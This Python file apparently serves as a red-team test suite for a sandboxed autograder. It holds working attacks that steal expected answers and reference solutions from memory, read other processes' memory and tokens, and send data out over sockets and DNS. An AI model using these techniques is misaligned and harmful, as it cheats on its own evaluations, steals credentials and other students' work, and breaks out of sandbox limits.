"""Stealing: answers, hidden tests and other people's secrets, from memory, files, processes and friends."""

from __future__ import annotations

from functools import partial

from attacks.arena import ONE_PROCESS, RIGHTS, TRACING
from attacks.attack import FIRST, Attack, Bite, code

_attack = partial(Attack, chapter="stealing", assignment="04_softmax")


def _hunt(name: str, must_not: str, source: str, bites: Bite = Bite.LEAK, **rest: object) -> Attack:
    """An attack that does no exercise, only looks around before all else, and prints what it finds."""
    return _attack(name, cells={FIRST: code(source)}, must_not=must_not, bites=bites, **rest)  # type: ignore[arg-type]


def _softmax(name: str, must_not: str, source: str, bites: Bite = Bite.POINTS, **rest: object) -> Attack:
    """An attack that answers `softmax`, and nothing else, by a cheat; 0 points are what that deserves."""
    return _attack(name, cells={"softmax": code(source)}, must_not=must_not, bites=bites, **rest)  # type: ignore[arg-type]


MEMORY = (
    _softmax(
        "takes the expected value from its caller's frame",
        "the expected values",
        """
        import sys

        def softmax(x):
            frame = sys._getframe(1)
            while frame:
                for value in (*frame.f_locals.values(), *frame.f_globals.values()):
                    if isinstance(value, torch.Tensor) and value is not x and value.shape == x.shape:
                        if torch.allclose(value.sum(-1), torch.ones(())):
                            return value
                frame = frame.f_back
            raise NotImplementedError
        """,
    ),
    _softmax(
        "takes the expected value from the garbage collector's list",
        "the expected values",
        """
        import gc

        def softmax(x):
            for value in gc.get_objects():
                if type(value) is torch.Tensor and value.shape == x.shape and torch.is_floating_point(value):
                    if torch.allclose(value.sum(-1), torch.ones((), dtype=value.dtype)):
                        if torch.equal(value.argsort(-1), x.argsort(-1)):
                            return value
            raise NotImplementedError
        """,
    ),
    _softmax(
        "calls the reference that the garbage collector knows",
        "the reference solution",
        """
        import gc, types

        def softmax(x):
            for value in gc.get_objects():
                if isinstance(value, types.FunctionType) and value.__name__ == "softmax":
                    if "solution" in value.__code__.co_filename or "reference" in value.__code__.co_filename:
                        return value(x)
            raise NotImplementedError
        """,
    ),
    _softmax(
        "calls the reference from the list of modules",
        "the reference solution",
        """
        import sys

        def softmax(x):
            for name, module in list(sys.modules.items()):
                if "solution" in name or "reference" in name or "judge" in name:
                    found = getattr(module, "softmax", None) or getattr(module, "References", None)
                    if found is not None:
                        return found(x)
            raise NotImplementedError
        """,
    ),
    _attack(
        "looks for what lay in uninitialised memory",
        cells={
            FIRST: code("""
            import re, torch
            kept = [torch.empty(size, dtype=torch.uint8) for size in range(12000, 13000) for _ in range(3)]
            print({found for stale in kept for found in re.findall(rb"[0-9a-f]{32}", stale.numpy().tobytes())})
            """)
        },
        friend={
            FIRST: code("""
            import torch
            for _ in range(20):
                lists = [torch.tensor(list(ANSWER.encode() * 400), dtype=torch.uint8) for _ in range(20)]
                del lists
            """)
        },
        friend_first=True,
        must_not="another student's answer",
        bites=Bite.LEAK,
        needs=ONE_PROCESS,
    ),
    _hunt(
        "scans its own memory through proc",
        "the hidden suite and its constants",
        r"""
        import re

        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                if " rw-p " in line and "/" not in line:
                    start, end = (int(each, 16) for each in line.split()[0].split("-"))
                    memory.seek(start)
                    try:
                        print(set(re.findall(rb'LONG_LIVED = b.([0-9a-f]{32})', memory.read(end - start))) or "")
                    except OSError:
                        pass
        """,
    ),
    _hunt(
        "scans its own memory through ctypes",
        "the hidden suite and its constants",
        r"""
        import ctypes, re

        for line in open("/proc/self/maps"):
            if " rw-p " in line and "/" not in line and "[v" not in line:
                start, end = (int(each, 16) for each in line.split()[0].split("-"))
                for found in re.findall(rb'LONG_LIVED = b.([0-9a-f]{32})', ctypes.string_at(start, end - start)):
                    print(found)
        """,
    ),
    _hunt(
        "prints every text and all bytes that the garbage collector reaches",
        "constants of the hidden suite",
        r"""
        import gc, re

        for value in gc.get_objects():
            for each in gc.get_referents(value):
                if isinstance(each, (str, bytes)) and len(each) < 10**6:
                    text = each if isinstance(each, str) else each.decode("latin-1")
                    if re.fullmatch("[0-9a-f]{32}", text) or "LONG_LIVED" in text:
                        print(text)
        """,
    ),
    _attack(
        "finds what an earlier student left in the process",
        cells={FIRST: "import sys, builtins\nprint(getattr(sys, 'left', None), getattr(builtins, 'left', None))"},
        friend={FIRST: "import sys, builtins\nsys.left = builtins.left = ANSWER"},
        friend_first=True,
        must_not="another student's answer",
        bites=Bite.LEAK,
        needs=ONE_PROCESS,
    ),
)

CALLER = (
    _softmax(
        "reads the source of its caller",
        "the hidden tests",
        """
        import inspect, linecache, sys

        def softmax(x):
            found = [str(entry) for entry in linecache.cache.values() if "solution" in str(entry)]
            try:
                found.append(inspect.getsource(sys._getframe(1)))
            except Exception as error:
                found.append(str(error))
            print(found)
            raise ValueError(found)
        """,
        bites=Bite.LEAK,
    ),
    _softmax(
        "carries its input out in the text of an error",
        "the hidden inputs",
        """
        def softmax(x):
            raise ValueError(bytes(int(each) % 256 for each in x.flatten().nan_to_num()).decode("latin-1"))
        """,
        bites=Bite.LEAK,
    ),
    _softmax(
        "carries its input out in the name of an error",
        "the hidden inputs",
        """
        def softmax(x):
            text = bytes(int(each) % 256 for each in x.flatten().nan_to_num()).decode("latin-1")
            raise type(text, (Exception,), {})()
        """,
        bites=Bite.LEAK,
    ),
    _softmax(
        "carries its input out in the name of a missing answer",
        "the hidden inputs",
        """
        from grader.jail.answers import MissingAnswerError

        def softmax(x):
            raise MissingAnswerError(bytes(int(each) % 256 for each in x.flatten().nan_to_num()).decode("latin-1"))
        """,
        bites=Bite.LEAK,
    ),
    _softmax(
        "carries its input out in the name of a forbidden call",
        "the hidden inputs",
        """
        import gc

        def softmax(x):
            text = bytes(int(each) % 256 for each in x.flatten().nan_to_num()).decode("latin-1")
            if text.isalnum():
                for log in [each for each in gc.get_objects() if type(each).__name__ == "Tracer"]:
                    call = {"call": "torch.distributions." + text, "cell": "cell softmax", "line": 1, "text": text}
                    log.calls.append(call)
            print(text)
            return torch.zeros(())
        """,
        bites=Bite.LEAK,
    ),
    _softmax(
        "prints its input while it is tested",
        "the hidden inputs",
        """
        import os

        def softmax(x):
            text = bytes(int(each) % 256 for each in x.flatten().nan_to_num())
            print(text)
            os.write(1, text)
            os.system("echo " + text.decode("latin-1").replace(chr(0), ""))
            return torch.zeros(())
        """,
        bites=Bite.LEAK,
    ),
)

PROCESSES = (
    _hunt(
        "prints its environment",
        "the supervisor's tokens",
        """
        import os, subprocess
        print(dict(os.environ), open("/proc/self/environ").read(), subprocess.getoutput("env"))
        """,
    ),
    _hunt(
        "prints the environment of every process",
        "the supervisor's tokens",
        """
        import glob, os
        for path in {f"/proc/{pid}/environ" for pid in (os.getppid(), *SUPERVISORS)} | set(glob.glob("/proc/*/environ")):
            try:
                print(open(path, "rb").read())
            except OSError as error:
                print(error)
        """,
    ),
    _hunt(
        "prints the command line of every process and its own arguments",
        "the seed of the hidden inputs",
        """
        import glob, os, sys
        print(sys.argv, sys.orig_argv)
        for path in {f"/proc/{pid}/cmdline" for pid in (os.getppid(), *SUPERVISORS)} | set(glob.glob("/proc/*/cmdline")):
            try:
                print(open(path, "rb").read())
            except OSError as error:
                print(error)
        """,
    ),
    _hunt(
        "reads the descriptors that it inherited",
        "the gradebook",
        """
        import os
        for number in range(256):
            try:
                print(os.readlink(f"/proc/self/fd/{number}"), os.pread(number, 100000, 0))
            except OSError:
                pass
        """,
    ),
    _hunt(
        "reads the open files of other processes",
        "the gradebook",
        """
        import glob, os
        paths = [f"/proc/{pid}/fd/{n}" for pid in (os.getppid(), *SUPERVISORS) for n in range(64)]
        for path in {*paths, *glob.glob("/proc/*/fd/*")} - set(glob.glob(f"/proc/{os.getpid()}/fd/*")):
            try:
                with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
                    print(path, file.read(100000))
            except (OSError, TypeError) as error:
                print(error)
        """,
    ),
    _hunt(
        "goes through the root and the working folder of other processes",
        "the solutions",
        """
        import glob, os
        pids = {"1", "self", str(os.getppid()), *map(str, SUPERVISORS), *map(os.path.basename, glob.glob("/proc/[0-9]*"))}
        for pid in pids:
            for path in (f"/proc/{pid}/root{COURSE}/solutions/{ASSIGNMENT}.py", f"/proc/{pid}/cwd/solutions/{ASSIGNMENT}.py"):
                try:
                    print(open(path).read())
                except OSError as error:
                    print(error)
        """,
    ),
    _hunt(
        "reads its parent's memory by ptrace",
        "constants of the hidden suite",
        r"""
        import ctypes, os, re
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in {os.getppid(), *SUPERVISORS} - {0}:
            print(pid, libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
            try:
                os.waitpid(pid, 0)
            except OSError as error:
                print(error)
            try:
                for line in open(f"/proc/{pid}/maps"):
                    if " rw-p " in line and "/" not in line:
                        start, end = (int(each, 16) for each in line.split()[0].split("-"))
                        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                            memory.seek(start)
                            print(*re.findall(rb'LONG_LIVED = b.([0-9a-f]{32})', memory.read(end - start)))
            except OSError as error:
                print(error)
            libc.ptrace(17, pid, 0, 0)
        """,
        needs=TRACING,
    ),
    _hunt(
        "reads its parent's memory by process_vm_readv",
        "constants of the hidden suite",
        r"""
        import ctypes, os, re
        libc = ctypes.CDLL(None, use_errno=True)
        class Vector(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
        for pid in {os.getppid(), *SUPERVISORS} - {0}:
            try:
                lines = open(f"/proc/{pid}/maps").readlines()
            except OSError as error:
                lines = [f"{0x10000:x}-{0x20000:x} rw-p"]
            for line in lines:
                if " rw-p" in line and "/" not in line:
                    start, end = (int(each, 16) for each in line.split()[0].split("-"))
                    here = ctypes.create_string_buffer(end - start)
                    mine, theirs = Vector(ctypes.addressof(here), end - start), Vector(start, end - start)
                    if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) < 0:
                        print(os.strerror(ctypes.get_errno()))
                    print(*re.findall(rb'LONG_LIVED = b.([0-9a-f]{32})', here.raw))
        """,
        needs=TRACING,
    ),
)

FILES = (
    _softmax(
        "imports the solution from the course folder",
        "the reference solution",
        """
        import importlib.util

        def softmax(x):
            spec = importlib.util.spec_from_file_location("answers", f"{COURSE}/solutions/{ASSIGNMENT}.py")
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module.softmax(x)
        """,
    ),
    _hunt(
        "reads everything in the course and home folders",
        "suites, solutions, mistakes, submissions, gradebook, tokens",
        """
        import os
        for root in (COURSE, HOME_FOLDER, os.path.expanduser("~"), "..", "../.."):
            for folder, _, names in os.walk(root):
                for name in names:
                    if not name.startswith("test_visible"):
                        with open(os.path.join(folder, name), "rb") as file:
                            data = file.read()
                            at = [i for i in range(len(data)) if data[i : i + 10] == b"LONG_LIVED"]
                            print(name, data[-3000:], [data[i : i + 60] for i in at])
            print(root, os.path.exists(root))
        """,
    ),
    _hunt(
        "reads through symbolic and hard links of its own",
        "solutions and gradebook",
        """
        import os
        for target in (f"{COURSE}/solutions/{ASSIGNMENT}.py", f"{COURSE}/gradebook.db", f"{HOME_FOLDER}/.netrc"):
            for link in (os.symlink, os.link):
                try:
                    link(target, "mine")
                    print(open("mine", "rb").read())
                except OSError as error:
                    print(error)
                if os.path.lexists("mine"):
                    os.remove("mine")
        """,
    ),
    _hunt(
        "unmarshals the byte code of the solution",
        "the reference solution",
        """
        import glob, marshal
        for path in glob.glob(f"{COURSE}/**/__pycache__/*.pyc", recursive=True):
            print(marshal.loads(open(path, "rb").read()[16:]).co_consts)
        """,
    ),
    _hunt(
        "reads files by shell, magics and other programs",
        "solutions and gradebook",
        """
        import subprocess, sys
        !cat {COURSE}/solutions/{ASSIGNMENT}.py
        get_ipython().run_line_magic("load", f"{COURSE}/solutions/{ASSIGNMENT}.py")
        get_ipython().run_cell_magic("bash", "", f"strings {COURSE}/gradebook.db; cat {COURSE}/gradebook.db")
        print(subprocess.getoutput(f"{sys.executable} -c 'print(open(\\"{COURSE}/solutions/{ASSIGNMENT}.py\\").read())'"))
        """,
    ),
    _hunt(
        "opens files by their handles",
        "solutions",
        r"""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        class Handle(ctypes.Structure):
            _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
        handle, mount = Handle(128), ctypes.c_int()
        folder = f"{COURSE}/solutions"
        if libc.name_to_handle_at(-100, folder.encode(), ctypes.byref(handle), ctypes.byref(mount), 0) < 0:
            print(os.strerror(ctypes.get_errno()))
            handle = Handle(8, 1, (2,))  # the root of most file systems, which needs no asking
        for place in (".", "/", COURSE, "/usr", "/tmp", "/dev/shm"):
            try:
                start = os.open(place, os.O_RDONLY)
                number = libc.open_by_handle_at(start, ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY)
                print(place, number, os.strerror(ctypes.get_errno()))
                for path in (f"{ASSIGNMENT}.py", f"{COURSE}/solutions/{ASSIGNMENT}.py".lstrip("/")):
                    print(open(os.open(path, os.O_RDONLY, dir_fd=number)).read())
            except OSError as error:
                print(error)
        """,
        needs=RIGHTS,
    ),
)

OUTSIDE = (
    _hunt(
        "sends a message by TCP",
        "a packet",
        "import socket\nsocket.create_connection(('127.0.0.1', TCP), 1).sendall(ME.encode())",
        bites=Bite.PACKET,
    ),
    _hunt(
        "sends a message by UDP",
        "a packet",
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(ME.encode(), ('127.0.0.1', UDP))",
        bites=Bite.PACKET,
    ),
    _hunt(
        "asks a name server for a name that is a message",
        "a packet",
        """
        import ctypes, os, socket
        os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
        try:
            print(ctypes.CDLL(None).getaddrinfo((ME[:40] + ".example.org").encode(), None, None, ctypes.byref(ctypes.c_void_p())))
        except Exception as error:
            print(error)
        question = b"\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len(ME)]) + ME.encode() + b"\\0\\0\\1\\0\\1"
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", DNS))
        """,
        bites=Bite.PACKET,
    ),
    _hunt(
        "sends a message by an abstract socket",
        "a packet",
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect(ABSTRACT)\ns.sendall(ME.encode())",
        bites=Bite.PACKET,
    ),
    _hunt(
        "leaves a message in shared folders, a pipe and a socket's file",
        "a message to someone outside",
        """
        import os, socket
        for way in (
            lambda: open(f"{DROP}/{ME}", "w").write(ME),
            lambda: open(f"{SHM}/{ME}", "w").write(ME),
            lambda: open(f"/dev/shm/{ME}", "w").write(ME),
            lambda: os.write(os.open(f"{DROP}/fifo", os.O_WRONLY | os.O_NONBLOCK), ME.encode()),
            lambda: socket.socket(socket.AF_UNIX).connect(f"{DROP}/socket"),
        ):
            try:
                way()
            except OSError as error:
                print(error)
        """,
        bites=Bite.PACKET,
    ),
    _softmax(
        "asks an oracle outside for the answer",
        "answers of somebody else",
        """
        import json, socket

        def softmax(x):
            with socket.create_connection(("127.0.0.1", ORACLE), 1) as channel:
                line = channel.makefile("rw")
                line.write(json.dumps({"rows": x.reshape(-1, x.shape[-1]).tolist()}) + "\\n")
                line.flush()
                return torch.tensor(json.loads(line.readline())).reshape(x.shape)
        """,
    ),
)

_LISTEN = """
import socket, time
listener = socket.socket(socket.AF_UNIX)
listener.bind(f"\\0friends-{KEY}")
listener.listen()
listener.settimeout(2)
listener.accept()[0].sendall(ANSWER.encode())
"""
_CALL = """
import socket, time
for _ in range(100):
    caller = socket.socket(socket.AF_UNIX)
    try:
        caller.connect(f"\\0friends-{KEY}")
        print(caller.recv(100))
        break
    except OSError as error:
        time.sleep(0.02)
"""

FRIENDS = (
    _attack(
        "gets a friend's answer by an abstract socket",
        cells={FIRST: _CALL},
        friend={FIRST: _LISTEN},
        must_not="another student's answer",
        bites=Bite.LEAK,
    ),
    _attack(
        "finds what a friend left in folders that all can write",
        cells={
            FIRST: code("""
            import glob
            for path in glob.glob("/tmp/left*") + glob.glob("/dev/shm/*left*") + glob.glob("/jail/*/left*"):
                print(open(path).read())
            """)
        },
        friend={
            FIRST: code("""
            for folder in ("/tmp", "/dev/shm", "/jail/tmp", "/jail/home", DROP, SHM, "/var/tmp", "/run"):
                try:
                    open(f"{folder}/left-{KEY}", "w").write(ANSWER)
                except OSError as error:
                    print(error)
            """)
        },
        friend_first=True,
        must_not="another student's answer",
        bites=Bite.LEAK,
    ),
    _attack(
        "gets a friend's answer by System V's shared memory and messages",
        cells={
            FIRST: code("""
            import ctypes, time
            libc = ctypes.CDLL(None, use_errno=True)
            libc.shmat.restype = ctypes.c_void_p
            for _ in range(100):
                number = libc.shmget(KEY, 100, 0)
                if number >= 0:
                    print(ctypes.string_at(libc.shmat(number, None, 0), 100))
                    break
                time.sleep(0.02)
            """)
        },
        friend={
            FIRST: code("""
            import ctypes, time
            libc = ctypes.CDLL(None, use_errno=True)
            libc.shmat.restype = ctypes.c_void_p
            number = libc.shmget(KEY, 100, 0o1666)
            print(number)
            place = libc.shmat(number, None, 0)
            if number >= 0:
                ctypes.memmove(place, ANSWER.encode(), len(ANSWER))
            time.sleep(1)
            """)
        },
        must_not="another student's answer",
        bites=Bite.LEAK,
    ),
)

ATTACKS = (*MEMORY, *CALLER, *PROCESSES, *FILES, *OUTSIDE, *FRIENDS)
